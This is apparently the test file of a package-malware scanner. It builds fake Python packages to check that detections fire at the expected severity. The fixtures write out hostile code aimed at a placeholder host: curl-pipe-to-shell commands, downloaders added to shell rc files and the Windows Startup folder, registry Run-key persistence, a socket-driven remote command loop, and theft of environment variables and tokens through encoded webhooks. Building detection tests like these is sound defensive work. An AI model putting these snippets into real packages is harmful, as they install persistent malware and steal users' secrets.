"""Behaviours that real malicious uploads showed and earlier analysis missed, each with a benign
counterpart that must stay quiet (generated here with harmless payloads)."""

from __future__ import annotations

import base64

from outwork.core.findings import Finding
from outwork.core.rules import Severity
from tests.analyzers.packages.helpers import sdist, wheel
from tests.analyzers.packages.test_package_analysis import findings, run, verdict

SETUP = "from setuptools import setup\nsetup()\n"
COMMAND = "import os\nos.system('curl -s https://x.invalid/a | sh')\n"


def top(items: list[object]) -> Severity | None:
    v = verdict(items)
    return v.severity if v is not None else None


def hits(items: list[object], code: str) -> list[Finding]:
    return [f for f in findings(items) if f.code == code]


# --- a package cannot lower its own weight by the words in its name -----------------------------


def test_package_named_like_a_test_is_judged_as_the_package() -> None:
    items = run(
        "duck_test_pkg-1.0-py3-none-any.whl",
        wheel("duck-test-pkg", "1.0", {"duck_test_pkg/__init__.py": COMMAND}),
    )
    hit = hits(items, "PKG001")[0]
    assert hit.severity is Severity.CRITICAL and "tests" not in hit.message


def test_sdist_root_named_like_a_demo_does_not_lower_the_package() -> None:
    files = {"setup.py": SETUP, "demopkg/__init__.py": COMMAND}
    items = run("demopkg-1.0.tar.gz", sdist("demopkg", "1.0", files))
    assert top(items) is Severity.CRITICAL


def test_real_tests_folder_inside_such_a_package_is_still_lowered() -> None:
    files = {"setup.py": SETUP, "testlib/__init__.py": "", "testlib/tests/test_a.py": COMMAND}
    items = run("testlib-1.0.tar.gz", sdist("testlib", "1.0", files))
    hit = hits(items, "PKG001")[0]
    assert hit.severity is Severity.MEDIUM and "tests" in hit.message


def test_test_module_imported_by_package_code_is_not_lowered() -> None:
    payload = (
        "import os\n\ndef reset():\n"
        "    with open(os.path.expanduser('~/.bashrc'), 'a') as f:\n"
        "        f.write('wget https://x.invalid/p -O /tmp/p && chmod +x /tmp/p && /tmp/p &')\n"
    )
    files = {
        "setup.py": SETUP,
        "demo/__init__.py": "from .tests import helpers\n",
        "demo/tests/__init__.py": "",
        "demo/tests/helpers.py": payload,
    }
    items = run("demo-1.0.tar.gz", sdist("demo", "1.0", files))
    hit = next(f for f in hits(items, "PKG005") if f.location.line == 5)
    assert hit.severity is Severity.HIGH and "tests" not in hit.message
    alone = {k: v for k, v in files.items() if k != "demo/__init__.py"}
    lowered = next(
        f
        for f in hits(run("demo-1.0.tar.gz", sdist("demo", "1.0", alone)), "PKG005")
        if f.location.line == 5
    )
    assert lowered.severity is Severity.MEDIUM


# --- code that does not parse -------------------------------------------------------------------


def test_byte_order_mark_does_not_stop_parsing() -> None:
    setup = (
        "\ufeffimport requests, subprocess, sys\nfrom setuptools import setup\n"
        "r = requests.get('https://x.invalid/stage.py')\n"
        "with open('stage.py', 'wb') as f:\n    f.write(r.content)\n"
        "subprocess.check_call([sys.executable, 'stage.py'])\nsetup()\n"
    )
    items = run("demo-1.0.tar.gz", sdist("demo", "1.0", {"setup.py": setup}))
    assert not hits(items, "PKG013")
    assert any(f.severity is Severity.CRITICAL for f in hits(items, "PKG003"))


def test_broken_statement_is_skipped_and_the_rest_analysed() -> None:
    setup = (
        "import urllib.request\nfrom distutils.core import setup\n"
        "setup(\n  name='demo'\n  version='1.0'\n)\n"
        "urllib.request.urlopen('https://x.invalid/ping')\n"
    )
    items = run("demo-1.0.tar.gz", sdist("demo", "1.0", {"setup.py": setup}))
    assert hits(items, "PKG013")[0].location.line == 4
    network = hits(items, "PKG007")[0]
    assert network.location.line == 7 and network.severity is Severity.HIGH


def test_broken_line_inside_a_function_keeps_the_function() -> None:
    lib = (
        "import os, urllib.request\n\ndef send():\n    data = dict(os.environ)\n"
        '    print(oops not closed")\n'
        "    urllib.request.urlopen('https://x.invalid', data=data)\n\nsend()\n"
    )
    files = {"setup.py": SETUP, "demo/__init__.py": lib}
    items = run("demo-1.0.tar.gz", sdist("demo", "1.0", files))
    assert any(f.severity is Severity.CRITICAL for f in hits(items, "PKG002"))


# --- downloads, threads, decorators, persistence --------------------------------------------------


def test_downloaded_archive_unpacked_and_started() -> None:
    lib = (
        "import os, subprocess, tarfile, urllib.request\n"
        "home = os.path.expanduser('~')\n"
        "with urllib.request.urlopen('https://x.invalid/tool.tar.gz') as f:\n"
        "    with open(os.path.join(home, '.cache/t.tgz'), 'wb') as out:\n"
        "        out.write(f.read())\n"
        "tar = tarfile.open(os.path.join(home, '.cache/t.tgz'))\n"
        "tar.extractall(path=os.path.join(home, '.cache/t/'))\n"
        "subprocess.Popen([os.path.join(home, '.cache/t/bin/tool'), '--quiet'])\n"
    )
    files = {"setup.py": SETUP, "demo/__init__.py": lib}
    items = run("demo-1.0.tar.gz", sdist("demo", "1.0", files))
    hit = next(f for f in hits(items, "PKG003") if f.location.line == 8)
    assert hit.severity is Severity.CRITICAL


def test_unpacking_a_bundled_archive_is_not_a_download() -> None:
    lib = (
        "import subprocess, tarfile\n"
        "tarfile.open('data/tool.tgz').extractall(path='/tmp/t/')\n"
        "subprocess.Popen(['/tmp/t/tool'])\n"
    )
    files = {"setup.py": SETUP, "demo/__init__.py": lib}
    assert not hits(run("demo-1.0.tar.gz", sdist("demo", "1.0", files)), "PKG003")


def test_thread_target_runs_its_arguments() -> None:
    encoded = base64.b64encode(b"curl https://x.invalid/a -o %temp%\\a.exe & start a.exe").decode()
    lib = (
        "import base64, os, threading\n"
        "threading.Thread(target=os.system,\n"
        f"    args=[base64.b64decode('{encoded}').decode()]).start()\n"
    )
    files = {"setup.py": SETUP, "demo/__init__.py": lib}
    items = run("demo-1.0.tar.gz", sdist("demo", "1.0", files))
    assert hits(items, "PKG001")[0].severity is Severity.CRITICAL


def test_decorator_that_calls_the_function_runs_it_on_import() -> None:
    lib = (
        "import os\n\nclass Client:\n    @staticmethod\n    @lambda f: f()\n"
        "    def warm():\n        os.system('curl -s https://x.invalid/a | sh')\n"
    )
    files = {"setup.py": SETUP, "demo/__init__.py": lib}
    items = run("demo-1.0.tar.gz", sdist("demo", "1.0", files))
    hit = hits(items, "PKG001")[0]
    assert hit.severity is Severity.CRITICAL and hit.properties["context"] == "import"


def test_downloader_written_into_a_shell_rc_file() -> None:
    lib = (
        "import os\n\ndef reset():\n"
        "    with open(os.path.expanduser('~/.zshrc'), 'a') as f:\n"
        "        f.write('wget https://x.invalid/p -O /tmp/p && chmod +x /tmp/p && /tmp/p &')\n"
        "        f.write('export EDITOR=vi')\n"
    )
    files = {"setup.py": SETUP, "demo/__init__.py": lib}
    items = run("demo-1.0.tar.gz", sdist("demo", "1.0", files))
    assert {(f.location.line, f.severity) for f in hits(items, "PKG005")} == {
        (4, Severity.MEDIUM),
        (5, Severity.HIGH),
    }


def test_download_saved_into_the_startup_folder() -> None:
    lib = (
        "import os, requests\n\ndef init():\n"
        "    folder = f'C:\\\\Users\\\\{os.getlogin()}\\\\AppData\\\\Roaming\\\\"
        "Microsoft\\\\Windows\\\\Start Menu\\\\Programs\\\\Startup'\n"
        "    with open(folder + '\\\\x.py', 'wb') as f:\n"
        "        f.write(requests.get('https://x.invalid/x.py').content)\n"
    )
    files = {"setup.py": SETUP, "demo/__init__.py": lib}
    items = run("demo-1.0.tar.gz", sdist("demo", "1.0", files))
    assert any(f.location.line == 6 and f.severity is Severity.HIGH for f in hits(items, "PKG005"))


def test_registry_run_key_is_persistence() -> None:
    lib = (
        "import subprocess\n\ndef install(path):\n"
        "    subprocess.run(['reg', 'add', 'HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\"
        "CurrentVersion\\\\Run', '/v', 'x', '/d', path])\n"
        "    subprocess.run(['reg', 'query', 'HKCU\\\\Software'])\n"
    )
    files = {"setup.py": SETUP, "demo/__init__.py": lib}
    items = run("demo-1.0.tar.gz", sdist("demo", "1.0", files))
    assert [(f.location.line, f.severity) for f in hits(items, "PKG005")] == [(4, Severity.HIGH)]


def test_python_m_in_setup_runs_the_package_main_at_install() -> None:
    setup = (
        "import subprocess\nfrom setuptools import setup\nsetup()\n"
        "subprocess.run(['python', '-m', 'demo'])\n"
    )
    files = {"setup.py": setup, "demo/__init__.py": "", "demo/__main__.py": COMMAND}
    items = run("demo-1.0.tar.gz", sdist("demo", "1.0", files))
    hit = next(f for f in hits(items, "PKG001") if f.location.path.endswith("__main__.py"))
    assert hit.properties["context"] == "install" and hit.severity is Severity.CRITICAL


# --- what is sent and where ----------------------------------------------------------------------


def test_user_and_machine_names_from_the_environment_are_host_identity() -> None:
    lib = (
        "import os, requests\n\ndef report():\n"
        "    requests.post('https://x.invalid/r', json={'u': os.getenv('USERNAME'),"
        " 'c': os.environ['COMPUTERNAME']})\n\nreport()\n"
    )
    files = {"setup.py": SETUP, "demo/__init__.py": lib}
    items = run("demo-1.0.tar.gz", sdist("demo", "1.0", files))
    assert hits(items, "PKG002")[0].severity is Severity.CRITICAL


def test_configured_token_sent_from_a_function_called_at_import_is_critical() -> None:
    """Sending a token on import is the same act inside a function the top level calls (the
    discount for functions was an evasion); an SDK's login the user calls is not reported."""
    lib = (
        "import os, requests\n\ndef login():\n"
        "    requests.post('https://api.x.invalid/login', json={'t': os.getenv('API_TOKEN')})\n"
        "\nlogin()\n"
    )
    files = {"setup.py": SETUP, "demo/__init__.py": lib}
    items = run("demo-1.0.tar.gz", sdist("demo", "1.0", files))
    hit = hits(items, "PKG002")[0]
    assert hit.severity is Severity.CRITICAL and hit.location.line == 4
    files = {"setup.py": SETUP, "demo/__init__.py": lib.removesuffix("\nlogin()\n")}
    items = run("demo-1.0.tar.gz", sdist("demo", "1.0", files))
    assert not hits(items, "PKG002")


def test_webhook_address_hidden_by_encoding() -> None:
    hook = base64.b64encode(b"https://discord.com/api/webhooks/1/abc").decode()
    lib = (
        "import base64, requests\n\ndef share(text):\n"
        f"    requests.post(base64.b64decode('{hook}').decode(), json={{'content': text}})\n"
        "\ndef plain(text):\n"
        "    requests.post('https://discord.com/api/webhooks/1/abc', json={'content': text})\n"
    )
    files = {"setup.py": SETUP, "demo/__init__.py": lib}
    items = run("demo-1.0.tar.gz", sdist("demo", "1.0", files))
    assert {(f.location.line, f.severity) for f in hits(items, "PKG007")} == {
        (4, Severity.HIGH),
        (7, Severity.LOW),
    }


def test_file_moved_into_the_startup_folder_of_the_user_at_install() -> None:
    setup = (
        "import os\nfrom setuptools import setup\nfrom setuptools.command.install import install\n"
        "class Post(install):\n    def run(self):\n"
        "        folder = rf'C:\\Users\\{os.getlogin()}\\AppData\\Roaming\\Microsoft\\Windows"
        "\\Start Menu\\Programs\\Startup'\n"
        "        os.rename('payload.py', os.path.join(folder, 'x.py'))\n"
        "        install.run(self)\n"
        "setup(cmdclass={'install': Post})\n"
    )
    items = run("demo-1.0.tar.gz", sdist("demo", "1.0", {"setup.py": setup}))
    hit = hits(items, "PKG005")[0]
    assert hit.location.line == 7 and hit.severity is Severity.CRITICAL
    assert "Startup/x.py" in hit.evidence


def test_commands_received_from_a_socket_are_run() -> None:
    lib = (
        "import socket, subprocess\n"
        "s = socket.socket()\ns.connect(('x.invalid', 4444))\n"
        "recv = lambda n: s.recv(n)\n"
        "def run(cmd):\n    subprocess.Popen(cmd, shell=True)\n"
        "while True:\n    data = recv(1024).decode()\n    run(data)\n"
    )
    files = {"setup.py": SETUP, "demo/__init__.py": lib}
    items = run("demo-1.0.tar.gz", sdist("demo", "1.0", files))
    assert any(f.severity is Severity.CRITICAL for f in hits(items, "PKG003"))


def test_script_written_piece_by_piece_is_analysed() -> None:
    lib = (
        "import subprocess\n\ndef drop():\n    with open('/tmp/x.py', 'w') as f:\n"
        "        f.write('import urllib.request\\n')\n"
        "        f.write('urllib.request.urlretrieve('\n"
        '                \'"https://x.invalid/a.sh", "/tmp/a.sh")\\n\')\n'
        "    subprocess.call('python3 /tmp/x.py &', shell=True)\n\ndrop()\n"
    )
    files = {"setup.py": SETUP, "demo/__init__.py": lib}
    items = run("demo-1.0.tar.gz", sdist("demo", "1.0", files))
    layer = [f for f in hits(items, "PKG007") if "via file write" in f.evidence]
    assert layer and layer[0].severity is Severity.HIGH


def test_package_installed_from_a_repository_on_import() -> None:
    lib = (
        "import subprocess\n\ndef get(url):\n"
        "    subprocess.run(['pip', 'install', f'git+{url}'])\n"
        "def local():\n    subprocess.run(['pip', 'install', 'requests'])\n"
        "get('https://x.invalid/repo.git')\nlocal()\n"
    )
    files = {"setup.py": SETUP, "demo/__init__.py": lib}
    items = run("demo-1.0.tar.gz", sdist("demo", "1.0", files))
    # the helper's command, and the call that hands it the repository (judged at the call)
    assert {(f.location.line, f.severity) for f in hits(items, "PKG001")} == {
        (4, Severity.HIGH),
        (6, Severity.MEDIUM),
        (7, Severity.HIGH),
    }


def test_values_split_across_modules_by_star_imports_still_fold() -> None:
    hook = base64.b64encode(b"https://api.telegram.org/bot1:abc/sendMessage").decode()
    codes = (
        "import base64 as b64\n\ndef d(s):\n    return b64.b64decode(s).decode()\n\n"
        f"URL = '{hook}'\n"
    )
    for star in ("from demo.codes import *", "from .codes import *"):
        send = f"{star}\nimport requests\n\ndef go(x):\n"
        send += "    requests.post(d(URL), data={'t': x})\n"
        files = {
            "setup.py": SETUP,
            "demo/__init__.py": "",
            "demo/codes.py": codes,
            "demo/send.py": send,
        }
        items = run("demo-1.0.tar.gz", sdist("demo", "1.0", files))
        hit = hits(items, "PKG007")[0]
        assert hit.location.line == 5 and hit.severity is Severity.HIGH
        assert "api.telegram.org" in hit.evidence


def test_helpers_that_download_then_start_a_file() -> None:
    lib = (
        "import os, urllib.request\n\nclass Dropper:\n    @staticmethod\n"
        "    def fetch(url):\n        path = os.path.join(os.getenv('TEMP'), 'a.exe')\n"
        "        with open(path, 'wb') as out:\n"
        "            out.write(urllib.request.urlopen(url).read())\n        return path\n"
        "    @staticmethod\n    def start(path):\n        os.system(f'start {path}')\n\n"
        "def go():\n    Dropper.start(Dropper.fetch('https://x.invalid/a'))\n"
        "def fine():\n    Dropper.start('notepad.exe')\n"
    )
    files = {"setup.py": SETUP, "demo/__init__.py": lib}
    items = run("demo-1.0.tar.gz", sdist("demo", "1.0", files))
    assert [(f.location.line, f.severity) for f in hits(items, "PKG003")] == [(15, Severity.HIGH)]


def test_downloaded_code_handed_through_helpers_to_a_process() -> None:
    lib = (
        "import base64, subprocess, requests\n\n"
        "def fetch():\n    r = requests.get('https://x.invalid/p')\n"
        "    return base64.b64decode(r.text).decode()\n\n"
        "def save(code):\n    path = '/tmp/s.py'\n    with open(path, 'w') as f:\n"
        "        f.write(code)\n    return path\n\n"
        "def start(p):\n    subprocess.call(['pythonw', p])\n\n"
        "def main():\n    start(save(fetch()))\n    start('/usr/bin/true')\n\n"
        "if __name__ == '__main__':\n    main()\n"
    )
    files = {"setup.py": SETUP, "demo/__init__.py": lib}
    items = run("demo-1.0.tar.gz", sdist("demo", "1.0", files))
    assert [(f.location.line, f.severity) for f in hits(items, "PKG003")] == [(17, Severity.HIGH)]
